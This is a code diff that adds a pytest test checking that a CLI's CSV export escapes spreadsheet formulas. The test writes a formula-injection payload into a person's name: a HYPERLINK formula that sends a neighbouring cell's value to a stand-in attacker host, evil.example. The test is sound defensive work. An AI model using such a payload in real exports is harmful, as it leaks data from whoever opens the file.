@@ -24,6 +24,7 @@ import polars as pl
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from sqlalchemy import text
 from typer.testing import CliRunner
 
 from laosp.cli import _register_domains, app
@@ -365,3 +366,22 @@ def test_a_past_date_reads_every_field(examples_url: str) -> None:
             load_snapshot(engine, only={"persons": {"sex"}}, at=dt.date(2025, 1, 1))
     finally:
         engine.dispose()
+
+
+def test_the_named_csv_never_carries_a_formula(runner: CliRunner, examples_url: str) -> None:
+    """A name registered as a formula is written as text (a leading apostrophe)."""
+    engine = make_engine(examples_url)
+    with engine.begin() as connection:
+        connection.execute(
+            text("UPDATE persons SET given_name = :name WHERE person_id = 'EX-AT-0003-3'"),
+            {"name": '=HYPERLINK("http://evil.example/?"&C2,"Click")'},
+        )
+    engine.dispose()
+    listed = runner.invoke(
+        app, [*DIFF, *REFORM, "--db", examples_url, "--district", "1703", "--list", "-f", "csv"]
+    )
+    assert listed.exit_code == 0, listed.output
+    [row] = [line for line in listed.output.splitlines() if "EX-AT-0003-3" in line]
+    assert "'=HYPERLINK(" in row
+    assert ',"=HYPERLINK' not in row
+    assert ",=HYPERLINK" not in row
